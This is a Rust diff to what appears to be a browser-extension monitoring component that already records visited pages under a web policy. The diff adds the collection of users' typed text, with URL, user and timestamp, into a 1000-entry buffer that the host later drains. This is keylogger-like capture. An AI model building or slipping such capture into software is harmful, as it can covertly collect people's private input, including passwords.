@@ -33,6 +33,7 @@ struct Inner {
     ever_connected: bool,
     last_seen: Option<Instant>,
     activity: VecDeque<ActivityEvent>,
+    typed: VecDeque<crate::TypedText>,
     policy: WebPolicy,
 }
 
@@ -106,6 +107,11 @@ impl Extensions {
         self.send_all(&ExtMsg::Policy { web: p })
     }
 
+    /// Text typed since the last call, oldest first.
+    pub fn take_typed(&self) -> Vec<crate::TypedText> {
+        guard(&self.inner).typed.drain(..).collect()
+    }
+
     /// Pages visited since the last call, oldest first.
     pub fn take_activity(&self) -> Vec<ActivityEvent> {
         guard(&self.inner).activity.drain(..).collect()
@@ -170,6 +176,18 @@ impl Extensions {
                         t.url = t.url.chars().take(MAX_TEXT).collect();
                     }
                     guard(conn).tabs = tabs;
+                }
+                ExtMsg::Typed { text, url, at } => {
+                    let mut i = guard(&self.inner);
+                    if i.typed.len() >= 1000 {
+                        i.typed.pop_front();
+                    }
+                    i.typed.push_back(crate::TypedText {
+                        text: text.chars().take(1000).collect(),
+                        url: clip(url),
+                        user: user.clone(),
+                        at,
+                    });
                 }
                 ExtMsg::Activity {
                     kind,
